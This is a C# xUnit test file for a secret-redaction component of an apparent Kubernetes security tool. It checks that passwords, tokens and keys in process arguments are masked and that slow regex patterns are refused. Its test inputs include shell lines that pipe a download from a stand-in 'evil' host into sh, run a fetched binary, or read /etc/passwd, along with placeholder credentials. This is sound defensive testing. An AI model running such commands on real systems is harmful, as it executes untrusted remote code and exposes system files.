using System.Diagnostics;
using KubeCop.Core.Alerts;

namespace KubeCop.Tests.Core.Alerts;

public sealed class ArgumentRedactionTests
{
    private static readonly ArgumentRedaction Default = ArgumentRedaction.Default;

    [Theory]
    [InlineData("mysql|--password=hunter2|db", "mysql|--password=***|db")]
    [InlineData("mysql|--password=with words, and more|db", "mysql|--password=***|db")]
    [InlineData("x|--token|abc|-v", "x|--token|***|-v")]
    [InlineData("x|-db.Password|a b\nc|-v", "x|-db.Password|***|-v")]
    [InlineData("vault|login|--client-secret=s.1", "vault|login|--client-secret=***")]
    [InlineData("java|-Dspring.datasource.password=p|-jar|a.jar", "java|-Dspring.datasource.password=***|-jar|a.jar")]
    [InlineData("env|PGPASSWORD=p|psql", "env|PGPASSWORD=***|psql")]
    [InlineData("env|AWS_SECRET_ACCESS_KEY=wJalr/XUtnFEMI|AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE|aws", "env|AWS_SECRET_ACCESS_KEY=***|AWS_ACCESS_KEY_ID=***|aws")]
    [InlineData("curl|-H|Authorization: Bearer abc.def|https://a/", "curl|-H|Authorization: Bearer ***|https://a/")]
    [InlineData("curl|-H|Authorization: Basic dTpw", "curl|-H|Authorization: Basic ***")]
    [InlineData("curl|-H|X-Api-Key: abc", "curl|-H|X-Api-Key: ***")]
    [InlineData("curl|-d|{\"user\":\"u\",\"token\": \"a b\",\"n\":1}", "curl|-d|{\"user\":\"u\",\"token\": \"***\",\"n\":1}")]
    [InlineData("curl|-u|admin:pa:ss word|https://a/", "curl|-u|admin:***|https://a/")]
    [InlineData("curl|https://a/?token=abc&page=2", "curl|https://a/?token=***&page=2")]
    [InlineData("git|clone|https://me:s3cret@host/x.git", "git|clone|https://me:***@host/x.git")]
    [InlineData("redis-cli|-u|redis://:pw/x@host:6379", "redis-cli|-u|redis://:***@host:6379")]
    [InlineData("gh|api|ghp_0123456789abcdefghij0123456789abcdef", "gh|api|***")]
    [InlineData("x|eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0abc.s-ig_1", "x|***")]
    [InlineData("sh|-c|echo '-----BEGIN RSA PRIVATE KEY-----\nAAAA\n-----END RSA PRIVATE KEY-----' > k", "sh|-c|echo '-----BEGIN RSA PRIVATE KEY-----***-----END RSA PRIVATE KEY-----' > k")]
    // What a shell is to do besides is the matter.
    [InlineData("sh|-c|PASSWORD=x; curl evil | sh", "sh|-c|PASSWORD=***; curl evil | sh")]
    [InlineData("sh|-c|curl --token=abc evil && ./evil", "sh|-c|curl --token=*** evil && ./evil")]
    public void Secret_IsHidden_AndNothingElse(string given, string shown) => Assert.Equal(shown.Split('|'), Default.Hide(given.Split('|')));

    [Theory]
    [InlineData("/bin/cat|/etc/passwd")]
    [InlineData("kubectl|get|secret|mine|-o|yaml")]
    [InlineData("x|--password-file=/run/p|--token-ttl|5m|--max-tokens|3")]
    [InlineData("ssh|-p|22|root@host")]
    [InlineData("curl|http://10.0.0.1:8080/a")]
    [InlineData("bearer|of|news")]
    [InlineData("")]
    public void Arguments_WithoutASecret_AreTheSameObject(string given)
    {
        var arguments = given.Split('|');
        Assert.Same(arguments, Default.Hide(arguments));
    }

    [Fact]
    public void NoArguments_AreTheSameObject() => Assert.Same(Array.Empty<string>(), Default.Hide([]));

    [Fact]
    public void Pattern_WithoutGroups_HidesAllItMatches_AlsoOverArguments()
    {
        var redaction = new ArgumentRedaction([@"-k\n\d+", "^all$"]);
        Assert.Equal(["x", "***", "***a", "***", "all of it"], redaction.Hide(["x", "-k", "123a", "all", "all of it"]));
    }

    [Fact]
    public void NoPatterns_HideNothing()
    {
        string[] arguments = ["x", "--password=abc"];
        Assert.Same(arguments, new AlertOptions { RedactArguments = [] }.Redaction.Hide(arguments));
    }

    [Fact]
    public void GivenPatterns_AreInsteadOfTheDefaults() =>
        Assert.Equal(["--password=abc", "***"], new AlertOptions { RedactArguments = ["mine"] }.Redaction.Hide(["--password=abc", "mine"]));

    [Theory]
    [InlineData("(")]
    [InlineData("(?<=a)b")]
    [InlineData(@"(a)\1")]
    public void Compile_PatternThatIsNoneOrCouldTakeAnyTime_IsRefused(string pattern) => Assert.ThrowsAny<ArgumentException>(() => ArgumentRedaction.Compile(pattern));

    [Fact]
    public void Secrets_MoreThanAreLookedFor_AreHiddenWithAllBehindThem()
    {
        var shown = Default.Hide(["x", .. Enumerable.Repeat("--password=abc", 1000), "end"]);
        Assert.Equal("x", shown[0]);
        Assert.DoesNotContain(shown, static argument => argument.Contains("abc", StringComparison.Ordinal));
        Assert.Equal("***", shown[^1]);
    }

    /// <summary>16 KiB are the most that the sensor carries. With a pattern that backtracks these take minutes.</summary>
    [Theory]
    [InlineData("a")]
    [InlineData("password")]
    [InlineData("http://u:")]
    [InlineData("--token ")]
    [InlineData("eyJ.")]
    [InlineData("password=\"")]
    public void Arguments_MadeToTakeLong_TakeNoTime(string part)
    {
        string[] arguments = ["x", string.Concat(Enumerable.Repeat(part, 16 * 1024 / part.Length))];
        Default.Hide(arguments);
        var watch = Stopwatch.StartNew();
        Default.Hide(arguments);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(5), $"16 KiB of '{part}' took {watch.Elapsed.TotalMilliseconds:0} ms.");
        TestContext.Current.TestOutputHelper?.WriteLine($"{part}: {watch.Elapsed.TotalMilliseconds:0.0} ms");
    }
}
